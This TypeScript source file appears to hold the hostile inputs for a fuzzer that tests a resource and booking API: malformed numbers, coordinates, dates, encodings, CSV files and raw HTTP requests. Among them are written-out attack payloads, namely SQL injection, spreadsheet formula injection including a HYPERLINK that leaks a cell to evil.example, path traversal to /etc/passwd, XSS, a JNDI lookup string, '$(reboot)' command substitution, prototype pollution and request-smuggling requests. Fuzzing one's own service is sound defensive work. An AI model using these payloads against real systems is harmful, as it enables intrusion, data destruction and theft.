/**
 * The fuzzer's hostile material: strings, numbers, coordinates, times and opening hours that break services;
 * invalid percent-encodings and raw bytes; bad credentials and Idempotency-Keys; JSON values no schema
 * expects; bad CSV files; malformed HTTP for a raw socket. `scripts/fuzz.ts` combines them into requests.
 */
import iconv from 'iconv-lite';
import { COLUMNS, csvLine, generateRows, loadWorld, type GenWorld } from './gen.js';

/** Strings that have broken other services: injections, traversal, odd unicode, numbers in disguise. */
export const HOSTILE_STRINGS = [
  '', ' ', '\t', '\r\n', 'null', 'undefined', 'true', '[]', '{}', 'NaN', 'Infinity', '-Infinity', '1e309', '-1e309',
  '-1', '0', '-0', '0x1F', '1_000', '1,5', '١٢٣', '１２３', '9'.repeat(400),
  "'; DROP TABLE resources;--", "' OR '1'='1", '" OR ""="', '1; SELECT * FROM bookings--', "') UNION SELECT sql FROM sqlite_master--",
  '%27%3B%20DROP%20TABLE', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1',
  '../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/etc/passwd\u0000.csv', '....//....//etc/passwd',
  '<script>alert(1)</script>', '{{7*7}}', '${jndi:ldap://x.example/a}', '$(reboot)', '`reboot`',
  '__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString',
  '\u0000', 'a\u0000b', '\ud800', '\udfff', 'x\udc00\ud800y', '\ud83d', '\uffff', '\ufffe', '\ufeff', '\u202eevil', 'e\u0301\u0301\u0301',
  '🏛️'.repeat(20), '𝕏'.repeat(50), 'A'.repeat(5000), '中'.repeat(2000), '%s%s%s%n', '\\', '"', "'", '\u2028\u2029',
];

/** Values for numeric parameters. */
export const HOSTILE_NUMBERS = [
  'abc', 'NaN', 'Infinity', '-Infinity', '1e309', '-1e309', '9'.repeat(400), '-1', '0', '-0', '1.5', '0x10', '1e2', ' 5', '5 ',
  '１', '٣', '', '1,2', '+5', '.5', '5.', '1e-400', '2147483648', '9007199254740993', '-9007199254740993', 'null', 'true',
];

/** Values for `lng,lat` and bbox parameters. */
export const HOSTILE_COORDS = [
  '1e400,1', '999999999999999999999,99999999999999', '-180.0000001,-90', '181,91', '0,0', '-0,-0', '116.4,', ',', '116.4;39.9',
  '116.4,39.9,1', 'NaN,NaN', 'Infinity,1', '１１６,３９', '116.4 , 39.9', '  116.4,39.9  ', `116.${'9'.repeat(5000)},39.9`,
  '116.4,39.9,116.3,39.8', '116.0,39.0,116.0,39.0', '-180,-90,180,90', '0.0.0,1,2,3', '...,...,...,...', '1,2,3,4,5',
];

/** Values for date-time parameters and fields. */
export const HOSTILE_TIMES = [
  '2026-02-30T10:00', '9999-12-31T23:59', '0000-01-01T00:00', '2026-12-05T24:00', '2026-12-05T23:60', '2026-12-05T14:00+99:99',
  '2026-12-05T14:00-23:59', '1970-01-01T00:00Z', 'now', '2026-12-05', '+275760-09-13T00:00Z', '2026-12-05T14:00:00.999999999+08:00',
  '2026-13-01T00:00', '2026-12-05 14:00', '1e309', '', 'T', '2026-12-05T14:00Z+08:00', '1900-01-28T10:00', '2045-01-28T10:00',
  '2199-02-01T10:00', '1969-12-31T23:59:59.999Z', '2026-12-05T14:00:60', '2026-12-05T14:00+08', '2026-W49-6T10:00', '２０２６-12-05T14:00',
];

/** OpenStreetMap opening_hours texts: unusual, ambiguous, or invalid (for `hours` and the CSV column). */
export const HOSTILE_HOURS = [
  '24/7', 'Mo-Su 00:00-24:00', 'Mo-Su 23:00-01:00', 'Mo-Su 10:00-09:00', 'Mo-Su 09:00+', 'sunrise-sunset', '(sunrise+01:00)-(sunset-01:00)',
  'easter', 'PH off', 'SH off', 'week 01-53/2 Mo 09:00-10:00', '"by appointment"', 'Mo-Su 09:00-10:00 || "call"', 'off', 'closed', 'open',
  '2030 Jan 01-2030 Dec 31 09:00-10:00', 'Mo-Su 00:00-24:00/5', 'Mo 25:00-26:00', 'Jan 32', 'Mo-Su 09:00-10:00; PH off; PH 12:00-13:00',
  ';;;;', 'Mo-Su ' + '09:00-09:01,'.repeat(200) + '10:00-10:01', 'Mo[1-5] 09:00-10:00', 'Dec 25-Jan 05 off', '00:00-24:00 week 54',
];

/** Invalid percent-encodings (overlong, surrogate, truncated, not hex) and raw invalid bytes (latin1 characters). */
export const BAD_PERCENT = ['%C0%AF', '%ED%A0%80', '%ED%BF%BF', '%FF', '%FE%FF', '%E4%B8', '%F8%88%80%80%80', '%F4%90%80%80', '%ZZ', '%', '%%', '%u4E2D', '%00', '%0A%0D'];
export const BAD_RAW = ['\xc0\xaf', '\xff\xfe', '\xed\xa0\x80', '\xe4\xb8', '\x80', '\xf5\x80\x80\x80'];

/** Authorization header values that are not a valid credential, some of them near misses of `key`. */
export const badAuth = (key: string) => [
  '', 'Bearer', 'Bearer ', 'Bearer  ', 'bearer', 'Basic dXNlcjpwYXNz', 'Digest username="a"', 'Token abc', 'Bearer null',
  'Bearer undefined', `Bearer ${'A'.repeat(8000)}`, 'Bearer \xff\xfe\xfd', 'Bearer a b', 'Bearer "quoted"', `Bearer ${key.slice(0, -1)}`,
  `Bearer ${key}x`, `Bearer ${key.toUpperCase()}`, `Basic ${Buffer.from(`admin:${key}`).toString('base64')}`,
  `${key}`, `Bearer\t${key.slice(1)}`, "Bearer ' OR '1'='1", 'Bearer ../../etc/passwd', 'Bearer %00',
];

/** Idempotency-Key header values. */
export const BAD_KEYS = ['', ' ', 'a b', 'x'.repeat(255), 'x'.repeat(256), 'x'.repeat(5000), '\xe9\xe8', 'key\t', "'; DROP TABLE idempotency_keys;--", '\x7f', 'ключ'];

/** JSON values put in place of a valid field. `@@RAW:…@@` strings become bare JSON text (NaN is not JSON). */
export function hostileJson(rand: () => number): unknown {
  const pool: (() => unknown)[] = [
    () => null, () => true, () => false, () => 0, () => -1, () => 1.5, () => 2 ** 53 + 2, () => -(2 ** 53) - 2, () => 1e308, () => -1e308,
    () => 5e-324, () => '', () => ' ', () => pick(rand, HOSTILE_STRINGS), () => pick(rand, HOSTILE_TIMES), () => 'x'.repeat(3000),
    () => [], () => ({}), () => [[[[[]]]]], () => ({ __proto__: { polluted: true } }), () => JSON.parse('{"__proto__":{"polluted":true}}'),
    () => ({ constructor: { prototype: { polluted: true } } }), () => nestedArray(200), () => nestedObject(200), () => Array(300).fill(1),
    () => '@@RAW:NaN@@', () => '@@RAW:Infinity@@', () => '@@RAW:-Infinity@@', () => '@@RAW:1e999@@', () => '@@RAW:-1e999@@',
    () => '@@RAW:0x10@@', () => '@@RAW:01@@', () => '@@RAW:1.@@', () => '@@RAW:.5@@', () => '@@RAW:undefined@@', () => '@@RAW:"\\ud800"@@',
    () => '@@RAW:"\\x41"@@', () => '@@RAW:"\\u00"@@', () => pick(rand, HOSTILE_HOURS),
  ];
  return pick(rand, pool)();
}

const nestedArray = (depth: number): unknown => JSON.parse('['.repeat(depth) + ']'.repeat(depth));
const nestedObject = (depth: number): unknown => JSON.parse('{"a":'.repeat(depth) + '1' + '}'.repeat(depth));

/** JSON text with `@@RAW:x@@` strings replaced by x. */
export function jsonText(value: unknown): string {
  if (value === undefined) return '';
  return JSON.stringify(value).replace(/"@@RAW:((?:[^@]|@(?!@))*)@@"/g, (_m, raw: string) => raw.replace(/\\"/g, '"').replace(/\\\\/g, '\\'));
}

// ---------------------------------------------------------------------------------------------------------
// Encodings.

/** UTF-8 bytes of a JS string, except that a lone surrogate becomes its 3-byte form (invalid UTF-8). */
export function wtf8(s: string): Buffer {
  const bytes: number[] = [];
  for (let i = 0; i < s.length; i++) {
    let c = s.charCodeAt(i);
    if (c >= 0xd800 && c <= 0xdbff && i + 1 < s.length) {
      const d = s.charCodeAt(i + 1);
      if (d >= 0xdc00 && d <= 0xdfff) {
        c = 0x10000 + ((c - 0xd800) << 10) + (d - 0xdc00);
        i++;
      }
    }
    if (c < 0x80) bytes.push(c);
    else if (c < 0x800) bytes.push(0xc0 | (c >> 6), 0x80 | (c & 63));
    else if (c < 0x10000) bytes.push(0xe0 | (c >> 12), 0x80 | ((c >> 6) & 63), 0x80 | (c & 63));
    else bytes.push(0xf0 | (c >> 18), 0x80 | ((c >> 12) & 63), 0x80 | ((c >> 6) & 63), 0x80 | (c & 63));
  }
  return Buffer.from(bytes);
}

const UNRESERVED = /[A-Za-z0-9\-._~]/;

/** Percent-encodes the WTF-8 bytes of `s` (a lone surrogate becomes `%ED%A0%80`). */
export function pct(s: string): string {
  let out = '';
  for (const b of wtf8(s)) {
    const ch = String.fromCharCode(b);
    out += b < 0x80 && UNRESERVED.test(ch) ? ch : `%${b.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

/** `s` as raw bytes in a URL (latin1 characters), escaping only what would end the field or the request line. */
export function rawUrl(s: string, keepSlash = false): string {
  let out = '';
  for (const b of wtf8(s)) {
    const ch = String.fromCharCode(b);
    out += b <= 0x20 || b === 0x7f || '#?&=%+'.includes(ch) || (!keepSlash && ch === '/') ? `%${b.toString(16).padStart(2, '0')}` : ch;
  }
  return out;
}

/** A value as it goes on the wire: mostly properly encoded, sometimes raw bytes, sometimes with a bad sequence. */
export function wire(rand: () => number, value: string, keepSlash = false): string {
  const r = rand();
  if (r < 0.7) return pct(value);
  if (r < 0.8) return rawUrl(value, keepSlash);
  if (r < 0.9) return pct(value) + pick(rand, BAD_PERCENT);
  return rawUrl(value, keepSlash) + pick(rand, BAD_RAW);
}


export function pick<T>(rand: () => number, list: readonly T[]): T {
  return list[Math.floor(rand() * list.length)];
}


let genWorld: GenWorld | undefined;
/** Generated rows (the districts and taxonomy are loaded once). */
const rowsOf = (count: number, seed: number) => generateRows(count, seed, (genWorld ??= loadWorld()));

/** A small valid CSV of `rows` generated resources, with its header. */
export function validCsv(rows: number, seed: number): string {
  let text = COLUMNS.join(',') + '\n';
  for (const row of rowsOf(rows, seed)) text += csvLine({ ...row, id: `fz${seed}-${row.id}` });
  return text;
}

/** Bad (and a few hostile-but-valid) CSV files for imports. */
export interface CsvCase {
  name: string;
  make: (rand: () => number) => Buffer;
  contentType?: string;
  /** Send with Transfer-Encoding: chunked (default: sometimes). */
  chunked?: boolean;
  /** Valid enough that it may be imported for real (dry_run=false) rather than only checked. */
  apply?: boolean;
  /** Query parameters that go with the file. */
  query?: [string, string][];
}

export const CSV_CASES: CsvCase[] = [
  { name: 'empty', make: () => Buffer.alloc(0) },
  { name: 'bom-only', make: () => Buffer.from([0xef, 0xbb, 0xbf]) },
  { name: 'header-only', make: () => Buffer.from(COLUMNS.join(',') + '\n') },
  { name: 'unterminated-quote', make: () => Buffer.from(validCsv(3, 11).replace(/\n([^\n]*)$/, '\n"$1')) },
  { name: 'unterminated-quote-header', make: () => Buffer.from('"id,name,type,lng,lat,tags\nx,y,museum,116.4,39.9,ti\n') },
  { name: 'stray-quote', make: () => Buffer.from('id,name,type,lng,lat,tags\nx,a"b"c,museum,116.4,39.9,ti\ny,"a"b,museum,116.4,39.9,ti\n') },
  { name: 'fewer-columns', make: () => Buffer.from('id,name,type,lng,lat,tags\nx,y,museum\nz\n,,,,,\n') },
  { name: 'more-columns', make: () => Buffer.from('id,name,type,lng,lat,tags\nx,y,museum,116.4,39.9,ti,extra,extra2\n' + 'x,'.repeat(5000) + '\n') },
  { name: 'unknown-column', make: () => Buffer.from('id,name,type,lng,lattitude,tags\nx,y,museum,116.4,39.9,ti\n') },
  { name: 'duplicate-column', make: () => Buffer.from('id,name,type,lng,lat,tags,lat\nx,y,museum,116.4,39.9,ti,39.9\n') },
  { name: 'missing-required', make: () => Buffer.from('name,type\ny,museum\n') },
  { name: 'binary-garbage', make: (r) => Buffer.from(Array.from({ length: 64 * 1024 }, () => Math.floor(r() * 256))) },
  { name: 'nul-bytes', make: () => Buffer.from(validCsv(3, 12).replace(/,/g, ',\u0000')) },
  {
    name: 'gb18030-bad-bytes',
    make: (r) => {
      const good = iconv.encode(validCsv(20, 13), 'gb18030');
      const at = Math.floor(r() * good.length);
      return Buffer.concat([good.subarray(0, at), Buffer.from(pick(r, [[0xff], [0x80], [0x81, 0x30], [0xfe, 0x39, 0xfe], [0x81]])), good.subarray(at)]);
    },
  },
  { name: 'gb18030-declared-utf8', make: () => iconv.encode(validCsv(5, 14), 'gb18030'), query: [['encoding', 'utf8']] },
  { name: 'utf8-declared-gb18030', make: () => Buffer.from(validCsv(5, 15)), query: [['encoding', 'gb18030']] },
  { name: 'utf8-overlong', make: () => Buffer.concat([Buffer.from(validCsv(2, 16)), Buffer.from([0xc0, 0xaf, 0x0a])]) },
  { name: 'utf8-lone-surrogate', make: () => wtf8(validCsv(2, 17) + 'x,\ud800,museum,116.4,39.9,ti\n') },
  { name: 'utf16le', make: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(validCsv(2, 18), 'utf16le')]) },
  { name: 'one-line-10mb', make: () => Buffer.alloc(10 * 1024 * 1024, 'A'), chunked: false },
  { name: 'quote-10mb', make: () => Buffer.concat([Buffer.from('id,name,type,lng,lat,tags\n"'), Buffer.alloc(10 * 1024 * 1024, 'B')]) },
  { name: 'over-limit-13mb', make: () => Buffer.alloc(13 * 1024 * 1024, 'C'), chunked: true },
  { name: 'declared-huge', make: () => Buffer.from('id,name\n'), contentType: 'text/csv' },
  { name: 'many-columns', make: () => Buffer.from('id,name,type,lng,lat,tags,' + 'x,'.repeat(20_000) + '\n') },
  { name: 'crlf-cr-mixed', make: () => { let i = 0; return Buffer.from(validCsv(6, 19).replace(/\n/g, () => ['\r', '\r\n', '\n'][i++ % 3])); } },
  {
    name: 'formula-injection', apply: true,
    make: (r) => {
      let text = COLUMNS.join(',') + '\n';
      let k = 0;
      for (const row of rowsOf(4, 20 + Math.floor(r() * 1000))) {
        text += csvLine({ ...row, id: `fz-formula-${k++}`, name: pick(r, ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil")', '+1+1', '-1+cmd', '@SUM(A1)']),
          address: "'; DROP TABLE resources;--", notes: '=1+1', url: 'javascript:alert(1)', phone: '=2+3' });
      }
      return Buffer.from(text);
    },
  },
  {
    name: 'sql-injection-ids', apply: true,
    make: (r) => {
      let text = COLUMNS.join(',') + '\n';
      const ids = ["'; DROP TABLE resources;--", "x' OR '1'='1", 'a"b', '../../etc/passwd', 'x'.repeat(300), '', ' ', '\u0000', 'id;DELETE FROM meta'];
      let k = 0;
      for (const row of rowsOf(ids.length, 40 + Math.floor(r() * 1000))) text += csvLine({ ...row, id: ids[k++] });
      return Buffer.from(text);
    },
  },
  {
    name: 'hostile-values', apply: true,
    make: (r) => {
      let text = COLUMNS.join(',') + '\n';
      let k = 0;
      for (const row of rowsOf(12, 60 + Math.floor(r() * 1000))) {
        const column = pick(r, COLUMNS.filter((c) => c !== 'id'));
        const value = column === 'opening_hours' ? pick(r, HOSTILE_HOURS) : pick(r, [...HOSTILE_STRINGS, ...HOSTILE_NUMBERS]);
        text += csvLine({ ...row, id: `fz-hostile-${k++}`, [column]: value });
      }
      return Buffer.from(text);
    },
  },
  {
    name: 'coordinates', apply: true,
    make: (r) => {
      let text = COLUMNS.join(',') + '\n';
      let k = 0;
      for (const row of rowsOf(12, 80 + Math.floor(r() * 1000))) {
        const odd = pick(r, ['1e308', '-0', 'NaN', 'Infinity', '180', '-180', '90.0000001', '116.4e0', '0x74', ' 116.4 ', '116,4', '', '１１６.４', '116.40000000000000000001']);
        text += csvLine({ ...row, id: `fz-coord-${k++}`, [pick(r, ['lng', 'lat'] as const)]: odd, crs: pick(r, ['wgs84', 'gcj02', 'bd09', 'WGS84', '', 'epsg:4326']), district: pick(r, ['', row.district, '110101', '海淀区', '海淀', 'Haidian']) });
      }
      return Buffer.from(text);
    },
  },
  { name: 'bad-query', make: () => Buffer.from(validCsv(2, 21)), query: [['crs', 'wgs-84'], ['encoding', 'utf-16'], ['strict', 'maybe']] },
  { name: 'valid', make: (r) => Buffer.from(validCsv(30, 22 + Math.floor(r() * 1000))), apply: true },
];

/** Malformed HTTP sent on a raw socket: the server must answer a 4xx or close, and stay up. */
export interface RawCase {
  name: string;
  bytes: (host: string) => Buffer;
  /** The request ends the connection on purpose (or is not HTTP): no answer is no violation. */
  mayGoUnanswered?: boolean;
}

export const RAW_CASES: RawCase[] = [
  { name: 'nul-in-path', bytes: (h) => Buffer.from(`GET /v1/resources?q=a\u0000b HTTP/1.1\r\nHost: ${h}\r\nConnection: close\r\n\r\n`, 'latin1') },
  { name: 'space-in-path', bytes: (h) => Buffer.from(`GET /v1/resources?q=a b HTTP/1.1\r\nHost: ${h}\r\nConnection: close\r\n\r\n`) },
  { name: 'overlong-utf8-path', bytes: (h) => Buffer.concat([Buffer.from('GET /v1/resources/'), Buffer.from([0xc0, 0xaf, 0xed, 0xa0, 0x80]), Buffer.from(` HTTP/1.1\r\nHost: ${h}\r\nConnection: close\r\n\r\n`)]) },
  { name: 'no-host', bytes: () => Buffer.from('GET /v1/resources HTTP/1.1\r\nConnection: close\r\n\r\n') },
  { name: 'http-1.0', bytes: () => Buffer.from('GET /v1/taxonomy HTTP/1.0\r\n\r\n') },
  { name: 'http-9.9', bytes: (h) => Buffer.from(`GET /v1/taxonomy HTTP/9.9\r\nHost: ${h}\r\n\r\n`) },
  { name: 'header-without-colon', bytes: (h) => Buffer.from(`GET /v1/taxonomy HTTP/1.1\r\nHost: ${h}\r\nNoColonHere\r\nConnection: close\r\n\r\n`) },
  { name: 'obs-fold', bytes: (h) => Buffer.from(`GET /v1/taxonomy HTTP/1.1\r\nHost: ${h}\r\nX-A: a\r\n b\r\nConnection: close\r\n\r\n`) },
  { name: 'cl-and-te', bytes: (h) => Buffer.from(`POST /v1/match HTTP/1.1\r\nHost: ${h}\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET /v1/taxonomy HTTP/1.1\r\n\r\n`) },
  { name: 'two-content-lengths', bytes: (h) => Buffer.from(`POST /v1/match HTTP/1.1\r\nHost: ${h}\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 30\r\nConnection: close\r\n\r\n{}`) },
  { name: 'negative-content-length', bytes: (h) => Buffer.from(`POST /v1/match HTTP/1.1\r\nHost: ${h}\r\nContent-Type: application/json\r\nContent-Length: -1\r\nConnection: close\r\n\r\n{}`) },
  { name: 'bad-chunk-size', bytes: (h) => Buffer.from(`POST /v1/match HTTP/1.1\r\nHost: ${h}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n{}\r\n0\r\n\r\n`) },
  { name: 'http2-preface', bytes: () => Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n') },
  { name: 'binary-noise', bytes: () => Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 7919) % 256)), mayGoUnanswered: true },
  { name: 'header-name-bytes', bytes: (h) => Buffer.concat([Buffer.from(`GET /v1/taxonomy HTTP/1.1\r\nHost: ${h}\r\nX-`), Buffer.from([0xc0, 0xaf]), Buffer.from(': 1\r\nConnection: close\r\n\r\n')]) },
  {
    name: 'pipeline-50', bytes: (h) => Buffer.from(Array.from({ length: 50 }, (_, i) =>
      `GET /v1/resources?limit=${(i % 5) + 1}&near=116.4,39.9 HTTP/1.1\r\nHost: ${h}\r\n${i === 49 ? 'Connection: close\r\n' : ''}\r\n`).join('')),
  },
  { name: 'body-cut-short', bytes: (h) => Buffer.from(`POST /v1/match HTTP/1.1\r\nHost: ${h}\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n{"origins":`), mayGoUnanswered: true },
  { name: 'headers-cut-short', bytes: (h) => Buffer.from(`GET /v1/resources HTTP/1.1\r\nHost: ${h}\r\nX-A: `), mayGoUnanswered: true },
  { name: 'connect-method', bytes: (h) => Buffer.from(`CONNECT ${h} HTTP/1.1\r\nHost: ${h}\r\n\r\n`), mayGoUnanswered: true },
];
